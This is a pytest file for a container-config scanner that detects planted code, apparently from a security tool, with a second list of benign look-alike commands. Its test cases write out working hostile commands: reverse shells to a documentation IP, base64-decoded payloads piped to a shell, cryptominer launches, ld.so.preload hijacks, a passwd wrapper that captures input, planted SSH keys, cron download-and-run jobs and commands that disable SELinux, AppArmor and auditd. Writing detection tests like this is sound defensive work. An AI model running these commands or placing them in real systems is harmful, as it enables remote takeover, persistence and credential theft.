"""Shapes of planted code as they are seen in the wild, and what looks like them and is not."""

from __future__ import annotations

import pytest
from capdrop import rulebook
from capdrop.dialects.context import Context
from capdrop.discover import kind_of
from capdrop.engine import analyse
from capdrop.source import Source

NAMES = (
    "encoded-command-executed reverse-shell cryptocurrency-miner preloaded-library shadowed-command planted-ssh-key scheduled-download "
    "security-tool-disabled"
).split()
BOOK = rulebook.load()
BOOK.select(NAMES)
KEY = "ssh-ed25519 " + "AAAAC3NzaC1lZDI1NTE5AAAAI" + "Example" * 6


def rules(line: str) -> set[str]:
    """The rules that speak about a command, which stands in a Dockerfile and in a pod."""
    found = []
    for path, text in (
        ("Dockerfile", f"FROM debian:13\nRUN {line}\n"),
        ("pod.yaml", pod(line)),
        ("compose.yaml", "services:\n  a:\n    image: debian:13\n    command:\n      - sh\n      - -c\n      - |\n" + indented(line, 8)),
    ):
        kind = kind_of(path, text)
        assert kind is not None
        analysis = analyse(Source(path, text), kind, BOOK, Context())
        assert analysis.broken == []
        found.append({finding.rule for finding in analysis.findings})
    assert found[0] == found[1]
    assert found[2] in (found[0], set()) if "$" in line else found[2] == found[0]
    return found[0]


def pod(line: str) -> str:
    head = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n    - name: a\n      image: debian:13\n"
    return head + "      command: [bash, -c]\n      args:\n        - |\n" + indented(line, 10)


def indented(text: str, by: int) -> str:
    return "".join(f"{' ' * by}{line}\n" for line in text.split("\n"))


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("echo Y3VybA== | base64 -d | bash", "encoded-command-executed"),
        ("echo Y3VybA== | base64 -di | sh -s --", "encoded-command-executed"),
        ("echo Y3VybA== | openssl base64 -d -A | sh", "encoded-command-executed"),
        ("base64 -d <<< Y3VybA== | sh", "encoded-command-executed"),
        ("echo 63 | xxd -r -p | sh", "encoded-command-executed"),
        ("echo Y3VybA== | base64 -d | gunzip | sh", "encoded-command-executed"),
        ('eval "$(echo Y3VybA== | base64 -d)"', "encoded-command-executed"),
        ('bash -c "$(base64 -d /tmp/x)"', "encoded-command-executed"),
        ("perl -MMIME::Base64 -e 'eval(decode_base64(\"cHJpbnQ=\"))'", "encoded-command-executed"),
        ("node -e \"eval(Buffer.from('YQ==', 'base64').toString())\"", "encoded-command-executed"),
        ("php -r \"eval(base64_decode('YQ=='));\"", "encoded-command-executed"),
        ("ruby -rbase64 -e 'eval(Base64.decode64(\"YQ==\"))'", "encoded-command-executed"),
        ("echo Y3VybA== | base64 -d > /tmp/a; sh /tmp/a", "encoded-command-executed"),
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "reverse-shell"),
        ("bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'", "reverse-shell"),
        ("0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196", "reverse-shell"),
        ("nc 203.0.113.5 4444 -e /bin/bash", "reverse-shell"),
        ("nc -lvnp 4444 -e /bin/sh", "reverse-shell"),
        ("ncat --exec '/bin/bash -i' 203.0.113.5 4444", "reverse-shell"),
        ("busybox nc 203.0.113.5 4444 -e sh", "reverse-shell"),
        ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f", "reverse-shell"),
        ("telnet 203.0.113.5 4444 | /bin/sh | telnet 203.0.113.5 4445", "reverse-shell"),
        ("socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.5:4444", "reverse-shell"),
        (
            'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);'
            'subprocess.call(["/bin/sh","-i"])\'',
            "reverse-shell",
        ),
        (
            'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in(4444,inet_aton("x")))){exec("/bin/sh -i");};\'',
            "reverse-shell",
        ),
        ('php -r \'exec("/bin/sh -i <&3 >&3 2>&3", fsockopen("203.0.113.5", 4444));\'', "reverse-shell"),
        ("./xmrig -o pool.example.com:3333", "cryptocurrency-miner"),
        ("/tmp/.x/minerd -a cryptonight", "cryptocurrency-miner"),
        ("/tmp/.a -o stratum+tcp://203.0.113.5:3333", "cryptocurrency-miner"),
        ("/tmp/.a --url=xmr-eu1.nanopool.org:14433", "cryptocurrency-miner"),
        ("/tmp/.a -o pool.supportxmr.com:443 -u 4", "cryptocurrency-miner"),
        ("wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/a.tar.gz", "cryptocurrency-miner"),
        ("echo /tmp/.x.so >> /etc/ld.so.preload", "preloaded-library"),
        ("echo /tmp/.x.so | tee /etc/ld.so.preload", "preloaded-library"),
        ("printf 'cat > /tmp/p; exec /usr/bin/passwd' > /usr/local/bin/passwd", "shadowed-command"),
        ("echo 'exec /bin/netstat | grep -v 4444' > /usr/bin/netstat", "shadowed-command"),
        (f"echo '{KEY} me' >> /root/.ssh/authorized_keys", "planted-ssh-key"),
        (f"echo '{KEY}' | tee -a /home/app/.ssh/authorized_keys2", "planted-ssh-key"),
        ("curl -s https://example.com/k >> /root/.ssh/authorized_keys; true", "planted-ssh-key"),
        ("echo '* * * * * curl -s http://203.0.113.5/a | sh' | crontab -", "scheduled-download"),
        ("echo '@reboot root wget -qO- http://203.0.113.5/a | bash' > /etc/cron.d/a", "scheduled-download"),
        ("setenforce 0", "security-tool-disabled"),
        ("systemctl mask apparmor.service", "security-tool-disabled"),
        ("service auditd stop", "security-tool-disabled"),
    ],
)
def test_planted_code_is_seen(line: str, rule: str) -> None:
    assert rules(line) == {rule}


@pytest.mark.parametrize(
    "line",
    [
        "echo $CERT | base64 -d > /etc/ssl/cert.pem",
        "cat /a.b64 | base64 -d | tar xz",
        "base64 -d /a > /a.json; cat /a.json",
        "echo 'echo Y3VybA== | base64 -d | sh' > /docs/attack.md",
        "printf '\\033[31mred\\033[0m' | cat",
        "python3 -c 'import base64,sys; sys.stdout.write(base64.b64decode(sys.argv[1]).decode())' YQ==",
        "bash -c '</dev/tcp/db/5432'",
        "until echo > /dev/tcp/db/5432; do sleep 1; done",
        "exec 3<>/dev/tcp/127.0.0.1/9000; cat <&3",
        "nc -z db 5432",
        "while ! nc -w 1 db 5432; do sleep 1; done",
        "echo stats | nc localhost 11211",
        "socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock",
        "python3 -c 'import socket; socket.create_connection((\"db\", 5432), 1)'",
        "mkfifo /tmp/f && cat /tmp/f | sh -c 'cat > /out'",
        "apt-get install -y netcat-openbsd socat",
        "git clone https://github.com/acme/pool.git && pip install miner-data",
        "curl https://api.nicehash.com/v2/price",
        "export LD_PRELOAD=/usr/lib/libjemalloc.so.2",
        "echo '#!/bin/sh' > /usr/local/bin/entry && echo 'exec app' >> /usr/local/bin/entry",
        "printf '#!/bin/sh\\nexit 101\\n' > /usr/sbin/policy-rc.d",
        "printf '#!/bin/sh\\nexec \"$@\"\\n' > /usr/bin/sudo",
        "echo 'alias ls=\"ls -l\"' >> /root/.bashrc",
        'echo "$KEY" > /root/.ssh/authorized_keys',
        "echo 'github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl' >> /root/.ssh/known_hosts",
        "echo '0 3 * * * root curl -fsS https://example.com/ping' > /etc/cron.d/ping",
        "systemctl disable getty@tty1 && systemctl stop nginx",
        "pkill -f celery",
    ],
)
def test_what_only_looks_alike_is_let_be(line: str) -> None:
    assert rules(line) == set()
